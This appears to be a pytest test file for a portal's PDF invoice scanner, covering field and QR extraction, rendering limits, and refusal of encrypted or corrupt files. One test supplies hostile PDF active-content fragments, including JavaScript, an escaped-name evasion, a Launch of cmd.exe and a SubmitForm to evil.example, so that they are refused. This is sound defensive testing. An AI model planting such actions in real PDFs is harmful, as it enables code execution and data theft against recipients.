import io

import pypdf
import pytest

from portal.scans.errors import EvidenceRefused
from portal.scans.limits import ScanLimits
from portal.scans.pdf import read_pdf, render_page
from tests.scans import corpus

SAMPLE = corpus.BEIJING_E_ORDINARY


@pytest.fixture(scope="module")
def invoice_pdf() -> bytes:
    return corpus.invoice_pdf(SAMPLE)


def test_the_text_layer_and_the_qr_image_are_read_exactly(invoice_pdf):
    reading = read_pdf(invoice_pdf)
    assert reading.source == "pdf"
    assert reading.pages == 1
    assert reading.qr.ok and reading.qr.where == "pdf-image"
    assert reading.qr.text == SAMPLE.qr_text
    values = {name: field.value for name, field in reading.fields.items()}
    assert values["number"] == SAMPLE.number
    assert values["total"] == str(SAMPLE.total)
    assert values["buyer_tax_id"] == SAMPLE.buyer_tax_id
    assert all(field.confidence == 1.0 for field in reading.fields.values())
    assert "发票号码:12345678" in reading.text_lines


def test_the_first_page_is_rendered_server_side(invoice_pdf):
    page = read_pdf(invoice_pdf).page_image
    assert page.mode == "RGB"
    assert page.size == (1360, 800)


def test_a_qr_code_drawn_as_vectors_is_read_from_the_rendered_page():
    reading = read_pdf(corpus.invoice_pdf(SAMPLE, text=False, qr=False, qr_vector=True))
    assert reading.qr.ok and reading.qr.where == "pdf-page"
    assert reading.fields == {}


def test_a_huge_page_box_is_rendered_within_the_pixel_limit():
    limits = ScanLimits(max_render_pixels=4_000_000)
    page = render_page(corpus.invoice_pdf(SAMPLE, page_size=(14400, 14400)), limits)
    assert page.width * page.height <= 4_000_000


@pytest.mark.parametrize(
    ("catalog_extra", "page_extra", "what"),
    [
        ("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "", "JavaScript"),
        # Names may be written with #xx escapes (J#61vaScript is JavaScript): the byte scan
        # misses it, the walk over the parsed objects does not.
        (
            "/Names << /J#61vaScript << /Names [(a) << /S /J#61vaScript /J#53 (x) >>] >> >>",
            "",
            "JavaScript",
        ),
        ("", "/AA << /O << /S /Launch /F (cmd.exe) >> >>", "Launch"),
        ("/OpenAction << /S /SubmitForm /F (https://evil.example) >>", "", "SubmitForm"),
        ("/Names << /EmbeddedFiles << /Names [] >> >>", "", "EmbeddedFiles"),
    ],
)
def test_pdfs_with_active_content_are_refused(catalog_extra, page_extra, what):
    with pytest.raises(EvidenceRefused) as refused:
        read_pdf(corpus.invoice_pdf(SAMPLE, catalog_extra=catalog_extra, page_extra=page_extra))
    assert refused.value.code == "active_content"
    assert what in refused.value.message("en")


def test_an_open_action_that_only_shows_the_page_is_fine():
    reading = read_pdf(corpus.invoice_pdf(SAMPLE, catalog_extra="/OpenAction [6 0 R /Fit]"))
    assert reading.qr.ok


def encrypted(data: bytes, user_password: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(data))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_a_password_protected_pdf_is_refused(invoice_pdf):
    with pytest.raises(EvidenceRefused) as refused:
        read_pdf(encrypted(invoice_pdf, "secret"))
    assert refused.value.code == "encrypted"


def test_a_pdf_encrypted_only_against_editing_is_read(invoice_pdf):
    reading = read_pdf(encrypted(invoice_pdf, ""))
    assert reading.qr.ok
    assert reading.fields["number"].value == SAMPLE.number


@pytest.mark.parametrize("cut", [300, 0.5])
def test_truncated_and_garbled_pdfs_are_refused_as_corrupt(invoice_pdf, cut):
    size = cut if isinstance(cut, int) else int(len(invoice_pdf) * cut)
    for data in (invoice_pdf[:size], b"%PDF-1.7\n" + b"\x00garbage" * 100):
        with pytest.raises(EvidenceRefused) as refused:
            read_pdf(data)
        assert refused.value.code == "corrupt"


def test_the_page_count_is_reported_and_only_the_first_pages_are_read(invoice_pdf):
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(invoice_pdf))
    for _ in range(4):
        writer.add_page(writer.pages[0])
    buffer = io.BytesIO()
    writer.write(buffer)
    reading = read_pdf(buffer.getvalue(), ScanLimits(max_pdf_pages=2))
    assert reading.pages == 5
    assert reading.text_lines.count("发票号码:12345678") == 2
